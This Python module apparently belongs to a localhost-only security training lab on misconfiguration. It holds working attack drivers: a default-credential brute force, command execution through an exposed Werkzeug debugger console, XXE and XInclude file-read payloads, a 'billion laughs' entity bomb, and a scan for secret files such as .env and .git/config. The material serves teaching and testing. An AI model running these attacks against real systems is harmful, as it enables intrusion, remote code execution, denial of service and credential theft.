"""Security Misconfiguration: public payloads, and attack drivers that judge success.

Every driver talks to a server on 127.0.0.1 (``seclab.server.http_request`` refuses
anything else) or reads a file in the lesson's scratch folder.
"""

from __future__ import annotations

import html
import re
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

from seclab.attacks import AttackResult
from seclab.server import http_request

# --- default credentials -----------------------------------------------------------------

#: Username/password pairs that installers, appliances and tutorials ship with. Scanners
#: and botnets try lists like this (with thousands more) against every login they find.
DEFAULT_CREDENTIALS: list[tuple[str, str]] = [
    ("admin", "password"),
    ("admin", "1234"),
    ("root", "root"),
    ("administrator", "administrator"),
    ("admin", "changeme"),
    ("guest", "guest"),
    ("admin", "admin"),
    ("root", "toor"),
    ("admin", "admin123"),
]


def try_default_credentials(base_url: str, login_path: str = "/admin/login") -> AttackResult:
    """Try every pair of DEFAULT_CREDENTIALS on a login endpoint; succeed on the first that works."""
    for attempt, (username, password) in enumerate(DEFAULT_CREDENTIALS, start=1):
        reply = http_request("POST", base_url + login_path, json_body={"username": username, "password": password})
        if reply.status == 200 and (reply.json() or {}).get("ok"):
            return AttackResult(f"{username}/{password}", True,
                                f"logged in as {username} with password {password!r} on attempt {attempt}")
    return AttackResult("", False, f"none of the {len(DEFAULT_CREDENTIALS)} default pairs worked")


# --- reading pages -----------------------------------------------------------------------

_BLOCKS = frozenset({"br", "div", "h1", "h2", "h3", "h4", "li", "p", "pre", "table", "td", "th", "title", "tr"})


class _TextOnly(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []
        self._skipping = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style"):
            self._skipping += 1
        elif tag in _BLOCKS:
            self.parts.append("\n")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style") and self._skipping:
            self._skipping -= 1
        elif tag in _BLOCKS:
            self.parts.append("\n")

    def handle_data(self, data: str) -> None:
        if not self._skipping:
            self.parts.append(data)


def readable_text(page: str) -> str:
    """An HTML page as the text a person reads: no scripts or styles, one line per line of text."""
    parser = _TextOnly()
    parser.feed(page)
    lines = (" ".join(line.split()) for line in "".join(parser.parts).splitlines())
    return "\n".join(line for line in lines if line)


# --- Werkzeug's debugger -----------------------------------------------------------------

_SECRET = re.compile(r'SECRET = "([A-Za-z0-9]+)"')
_FRAME = re.compile(r'<div class="frame" id="frame-(\d+)"')
_ERROR = re.compile(r'<p class="errormsg">(.*?)</p>', re.S)
_PLAIN_TRACEBACK = re.compile(r'<textarea[^>]*>(.*?)</textarea>', re.S)


def is_werkzeug_debug_page(page: str) -> bool:
    return "// Werkzeug Debugger</title>" in page


def debugger_error(page: str) -> str:
    """The exception line a Werkzeug debug page shows at the top ('' if none)."""
    found = _ERROR.search(page)
    return html.unescape(found[1]).strip() if found else ""


def debugger_traceback(page: str) -> str:
    """The plain-text traceback a Werkzeug debug page carries for copy and paste ('' if none)."""
    found = _PLAIN_TRACEBACK.search(page)
    return html.unescape(found[1]).strip() if found else ""


def debugger_console(base_url: str, crash_path: str, command: str,
                     headers: dict[str, str] | None = None) -> AttackResult:
    """Crash the app at ``crash_path``, then run ``command`` in the debugger's console.

    The debug page hands every visitor what the console needs: the debugger's
    ``SECRET`` and the id of every stack frame. ``succeeded`` when the console ran the
    command; ``evidence`` is what it printed.
    """
    page = http_request("GET", base_url + crash_path, headers=headers).text
    secret, frames = _SECRET.search(page), _FRAME.findall(page)
    if not is_werkzeug_debug_page(page) or secret is None or not frames:
        return AttackResult(command, False, "no debugger page (so no console secret, no frames)")
    query = urllib.parse.urlencode({"__debugger__": "yes", "cmd": command, "frm": frames[-1], "s": secret[1]})
    reply = http_request("GET", f"{base_url}/?{query}", headers=headers)
    output = html.unescape(re.sub(r"<[^>]+>", "", reply.text))
    if reply.status == 200 and output.startswith(">>> "):
        return AttackResult(command, True, output.strip())
    return AttackResult(command, False, f"the console did not run it (HTTP {reply.status})")


# --- XML external entities ---------------------------------------------------------------

def xxe_order(path: Path) -> bytes:
    """An order whose note is an external entity: the contents of the file at ``path``."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY leak SYSTEM "{path.as_uri()}">]>\n'
            '<order><item sku="AB-12" qty="1"/><note>&leak;</note></order>').encode()


def xinclude_order(path: Path) -> bytes:
    """An order with no DOCTYPE at all, whose note XIncludes the file at ``path`` as text."""
    return ('<order xmlns:xi="http://www.w3.org/2001/XInclude"><item sku="AB-12" qty="1"/>'
            f'<note><xi:include href="{path.as_uri()}" parse="text"/></note></order>').encode()


def entity_bomb_order(levels: int = 10) -> bytes:
    """'Billion laughs': each entity repeats the previous one ten times (10**levels copies in all)."""
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE order [{"".join(entities)}]>\n'
            f'<order><item sku="AB-12" qty="1"/><note>&lol{levels - 1};</note></order>').encode()


# --- directory listings ------------------------------------------------------------------

#: Paths every scanner asks a web server for, listing or not.
SENSITIVE_PATHS = ["/.env", "/.git/config", "/config.py", "/settings.py", "/backup.sql", "/.htpasswd"]

_HREF = re.compile(r'href="([^"]+)"')


def listed_names(base_url: str) -> list[str]:
    """The entries of the directory listing at ``base_url`` (empty when there is none)."""
    reply = http_request("GET", base_url + "/")
    if reply.status != 200 or "Directory listing for" not in reply.text:
        return []
    return [urllib.parse.unquote(href) for href in _HREF.findall(reply.text)]


def steal_dotenv(base_url: str) -> AttackResult:
    """Look for secrets the way scanners do: read the listing, then ask for the usual paths."""
    candidates = {"/" + name for name in listed_names(base_url) if name.startswith(".")} | set(SENSITIVE_PATHS)
    for path in sorted(candidates):
        reply = http_request("GET", base_url + path)
        if reply.status == 200 and ("SECRET" in reply.text or "PASSWORD" in reply.text.upper()):
            return AttackResult(path, True, f"GET {path} -> 200:\n{reply.text.strip()}")
    return AttackResult("", False, f"asked for {len(candidates)} paths, every one refused")
